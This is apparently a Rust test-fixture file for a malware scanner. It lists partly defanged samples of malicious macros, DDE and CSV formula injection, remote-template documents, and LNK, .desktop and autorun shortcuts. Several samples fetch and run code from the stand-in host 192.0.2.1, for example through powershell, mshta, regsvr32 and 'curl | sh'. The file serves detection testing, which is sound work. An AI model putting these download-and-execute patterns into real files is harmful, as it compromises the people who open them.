//! Witnesses of documents and of shortcuts.

use crate::witness::{Witness, lnk, text, witness};

pub(crate) fn macros() -> Vec<Witness> {
    vec![
        text(
            "Candor.VBA.Downloader.UrlDownload-1",
            "a.bas",
            "Sub AutoOpen()\r\nf = Environ(\"temp\") & \"a\"\r\nURLDownload¬ToFile 0, \"http://192.0.2.1/a\", f, 0, 0\r\nShell f\r\n",
        ),
        text(
            "Candor.VBA.Downloader.HiddenPowershell-1",
            "a.bas",
            "Sub Document_Open()\r\nRun \"power¬shell -w¬ hid¬den -f a\"\r\nEnd Sub\r\n",
        ),
        text(
            "Candor.VBA.Execution.WmiProcess-1",
            "a.bas",
            "Sub Workbook_Open()\r\nGetObject(\"win¬mgmts:\").Get(\"Win32_¬Process\").Create \"a\"\r\nEnd Sub\r\n",
        ),
        text(
            "Candor.VBA.Injection.Shellcode-1",
            "a.bas",
            "Declare PtrSafe Function a\r\nSub Auto_Open()\r\nm = Virtual¬Alloc(0)\r\nRtl¬MoveMemory m, c\r\nCreateThread 0, 0, m\r\n",
        ),
        text(
            "Candor.OOXML.Execution.DdeCommand-1",
            "document.xml",
            "<?xml version=\"1.0\"?><w:document><w:instrText>DDE¬AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k a\"</w:x></w:document>",
        ),
        text(
            "Candor.OOXML.Execution.RemoteTemplate-1",
            "settings.xml.rels",
            "<?xml version=\"1.0\"?><Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/\
             relationships/¬attachedTemplate\" Target=\"http://192.0.2.1/a.dotm\" TargetMode=\"External\"/></Relationships>",
        ),
        text(
            "Candor.OOXML.Exploit.RemoteObject-1",
            "document.xml.rels",
            "<?xml version=\"1.0\"?><Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/\
             relationships/¬oleObject\" Target=\"https://192.0.2.1/a.html!\" TargetMode=\"External\"/></Relationships>",
        ),
        text(
            "Candor.CSV.Execution.DdeFormula-1",
            "a.csv",
            "name,sum\r\n=cmd|¬'/c mshta http://192.0.2.1/a'!A¬0,1\r\n",
        ),
        text(
            "Candor.SYLK.Macro.AutoOpen-1",
            "a.slk",
            "ID;P\r\nO;E\r\nNN;NAuto_¬open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC¬(\"a\")\r\nE\r\n",
        ),
        text(
            "Candor.RTF.Exploit.EquationUpdate-1",
            "a.rtf",
            "{\\rtf1{\\object\\objocx\\obj¬update{\\*\\obj¬data 010500000200000b0000004571756174¬696f6e2e3300}}}",
        ),
        text("Candor.RTF.Execution.RemoteTemplate-1", "a.rtf", "{\\rtf1{\\*\\template ¬http://192.0.2.1/a}}"),
        text(
            "Candor.PDF.Execution.LaunchCommand-1",
            "a.pdf",
            "%PDF-1.5\n1 0 obj << /OpenAction << /S /Launch¬ /Win << /F (cmd¬.exe) /P (/c a) >> >> >>\n%%EOF\n",
        ),
    ]
}

pub(crate) fn links() -> Vec<Witness> {
    vec![
        witness(
            "Candor.LNK.Downloader.Powershell-1",
            "a.lnk",
            lnk("..\\power¬shell.exe -w hid¬den iwr http://192.0.2.1/a"),
        ),
        witness(
            "Candor.LNK.Obfuscated.EncodedPowershell-1",
            "a.lnk",
            lnk("..\\power¬shell.exe -enc SQB¬FAFgAIAAoAE4A"),
        ),
        witness("Candor.LNK.Downloader.Mshta-1", "a.lnk", lnk("..\\mshta.exe http://192.0.2.1/a.hta")),
        witness(
            "Candor.LNK.Downloader.CommandChain-1",
            "a.lnk",
            lnk("..\\cmd.exe /c curl http://192.0.2.1/a -o a & a"),
        ),
        witness(
            "Candor.LNK.Execution.Rundll32Javascript-1",
            "a.lnk",
            lnk("..\\regsvr32.exe /s /i:http://192.0.2.1/a scrobj.dll"),
        ),
        text(
            "Candor.URL.Execution.WebDav-1",
            "a.url",
            "[InternetShortcut]\r\nURL=¬file://192.0.2.1@80/a/a.hta\r\n",
        ),
        text(
            "Candor.Desktop.Downloader.ShellPipe-1",
            "a.desktop",
            "[Desktop Entry]\nType=Application\nExec=bash¬ -c x; sh -c \"curl http://192.0.2.1/a | s¬h\"\n",
        ),
        text(
            "Candor.SettingContent.Execution.DeepLink-1",
            "a.SettingContent-ms",
            "<?xml version=\"1.0\"?><PCSettings><SearchableContent \
             xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><Deep¬Link>cmd.exe /c a</x>",
        ),
        text(
            "Candor.INF.Worm.Autorun-1",
            "autorun.inf",
            "[auto¬run]\r\nshell\\open\\¬command=RECYCLER\\¬S-1-5-21\\a.exe\r\n",
        ),
    ]
}
